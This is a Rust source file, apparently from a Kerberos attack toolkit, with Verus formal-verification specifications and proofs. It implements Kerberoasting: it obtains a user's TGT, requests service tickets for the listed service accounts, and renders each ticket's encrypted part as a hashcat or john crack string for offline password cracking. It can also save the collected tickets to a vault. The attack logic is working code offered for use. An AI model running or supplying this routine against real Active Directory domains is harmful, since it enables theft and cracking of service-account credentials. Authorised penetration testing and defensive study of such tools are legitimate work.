//! Kerberoasting: a TGS is requested for each listed service and its
//! encrypted part rendered as a crackable string.

use vstd::prelude::*;
use crate::channel::KdcComm;
use crate::cipher::Key;
use crate::codec::tcv_krb_encodable;
use crate::crack::CrackFormat;
use crate::crack::tgs_to_crack_string;
use crate::cred_format::CredFormat;
use crate::error::Error;
use crate::etypes::EncryptionType;
use crate::kerberoast_parse::parse_kerberoast;
use crate::krb_user::KrbUser;
use crate::provider::get_user_tgt;
use crate::requesters::request_regular_tgs;
use crate::vault::Vault;
use crate::vault::vault_wf;

verus! {

/// The shape of one kerberoast output line: a TGS crack rendering for the
/// user and realm the input line names, over some service label and some
/// encrypted part of at least checksum length.
pub open spec fn tgs_roast_shape(
    s: Seq<char>,
    line: Seq<char>,
    realm: Seq<char>,
    format: CrackFormat,
) -> bool {
    match crate::kerberoast_parse::kerberoast_entry(line, realm) {
        Some(e) => exists|label: Seq<char>, et: int, ct: Seq<u8>|
            et >= 0 && ct.len() >= 16 && s == crate::crack::tgs_crack_chars(
                e.0,
                label,
                e.1,
                et,
                ct,
                format,
            ),
        None => false,
    }
}

/// Kerberoasts the listed services: a TGT for the user is taken from the
/// vault or requested, a TGS is requested per service, and each TGS's
/// encrypted part is rendered for hashcat or john. When an output vault is
/// given, every ticket (the dumped input plus the new TGSs) is saved into
/// it under the chosen format.
pub fn kerberoast<K: KdcComm>(
    user: &KrbUser,
    user_services: &Vec<String>,
    in_vault: &mut Vault,
    out_vault: Option<&mut Vault>,
    user_key: Option<&Key>,
    cred_format: CredFormat,
    crack_format: CrackFormat,
    etype: Option<EncryptionType>,
    kdccomm: &mut K,
) -> (r: Result<Vec<String>, Error>)
    requires
        match user_key {
            Some(k) => crate::cipher::key_wf(*k),
            None => true,
        },
        vault_wf(*old(in_vault)),
    ensures
        vault_wf(*final(in_vault)),
        r matches Ok(v) ==> v@.len() == user_services@.len() && forall|j: int|
            0 <= j < v@.len() ==> tgs_roast_shape(
                (#[trigger] v@[j])@,
                user_services@[j]@,
                user.realm@,
                crack_format,
            ),
{
    let krbts_srvs = parse_kerberoast(user_services, user.realm.as_str())?;
    let channel = kdccomm.create_channel(user.realm.as_str())?;
    let etype_constant: Option<i32> = match &etype {
        Some(e) => Some(e.as_constant()),
        None => None,
    };
    let tgt = get_user_tgt(user, user_key, etype_constant, in_vault, &channel)?;
    let mut tickets = in_vault.dump();
    proof {
        assert forall|i: int| 0 <= i < tickets@.len() implies tcv_krb_encodable(
            #[trigger] tickets@[i],
        ) by {}
    }
    let mut crack_strs: Vec<String> = Vec::new();
    let ghost mut wits: Seq<(Seq<char>, int, Seq<u8>)> = Seq::empty();
    let mut i: usize = 0;
    while i < krbts_srvs.len()
        invariant
            i <= krbts_srvs@.len(),
            krbts_srvs@.len() == user_services@.len(),
            crack_strs@.len() == i,
            vault_wf(*in_vault),
            forall|j: int| 0 <= j < tickets@.len() ==> tcv_krb_encodable(#[trigger] tickets@[j]),
            forall|j: int|
                0 <= j < krbts_srvs@.len() ==> match crate::kerberoast_parse::kerberoast_entry(
                    user_services@[j]@,
                    user.realm@,
                ) {
                    Some(e) => (#[trigger] krbts_srvs@[j]).user.name@ == e.0
                        && krbts_srvs@[j].user.realm@ == e.1,
                    None => false,
                },
            wits.len() == i,
            forall|j: int|
                0 <= j < i ==> crate::kerberoast_parse::kerberoast_entry(
                    (#[trigger] user_services@[j])@,
                    user.realm@,
                ) is Some,
            forall|j: int|
                0 <= j < i ==> (#[trigger] wits[j]).1 >= 0 && wits[j].2.len() >= 16,
            forall|j: int|
                0 <= j < i ==> (#[trigger] crack_strs@[j])@ == crate::crack::tgs_crack_chars(
                    crate::kerberoast_parse::kerberoast_entry(
                        user_services@[j]@,
                        user.realm@,
                    )->Some_0.0,
                    wits[j].0,
                    crate::kerberoast_parse::kerberoast_entry(
                        user_services@[j]@,
                        user.realm@,
                    )->Some_0.1,
                    wits[j].1,
                    wits[j].2,
                    crack_format,
                ),
        decreases krbts_srvs@.len() - i,
    {
        let srv = &krbts_srvs[i];
        let service = srv.service();
        let service_label = service.flat_name();
        let etypes_vec: Option<Vec<i32>> = match &etype {
            Some(e) => {
                let mut v: Vec<i32> = Vec::new();
                v.push(e.as_constant());
                Some(v)
            },
            None => None,
        };
        let tgs = request_regular_tgs(user, service, &tgt, etypes_vec, kdccomm)?;
        if tgs.ticket.enc_part.cipher.len() < 16 || tgs.ticket.enc_part.etype < 0 {
            return Err(Error::DataError(String::from_str("Unusable TGS encrypted part")));
        }
        let rendered = tgs_to_crack_string(
            srv.user.name.as_str(),
            service_label.as_str(),
            srv.user.realm.as_str(),
            &tgs.ticket.enc_part,
            crack_format,
        );
        let ghost prevs = crack_strs@;
        crack_strs.push(rendered);
        proof {
            wits = wits.push(
                (service_label@, tgs.ticket.enc_part.etype as int, tgs.ticket.enc_part.cipher@),
            );
            assert forall|j: int| 0 <= j < i implies #[trigger] crack_strs@[j] == prevs[j] by {}
        }
        tickets.push(tgs);
        i = i + 1;
    }
    match out_vault {
        Some(v) => {
            v.save_as(tickets, cred_format)?;
        },
        None => {},
    }
    proof {
        assert forall|j: int|
            0 <= j < crack_strs@.len() implies tgs_roast_shape(
            (#[trigger] crack_strs@[j])@,
            user_services@[j]@,
            user.realm@,
            crack_format,
        ) by {
            let e = crate::kerberoast_parse::kerberoast_entry(
                user_services@[j]@,
                user.realm@,
            )->Some_0;
            let label = wits[j].0;
            let et = wits[j].1;
            let ct = wits[j].2;
            assert(et >= 0 && ct.len() >= 16 && crack_strs@[j]@ == crate::crack::tgs_crack_chars(
                e.0,
                label,
                e.1,
                et,
                ct,
                crack_format,
            ));
        }
    }
    Ok(crack_strs)
}

} // verus!
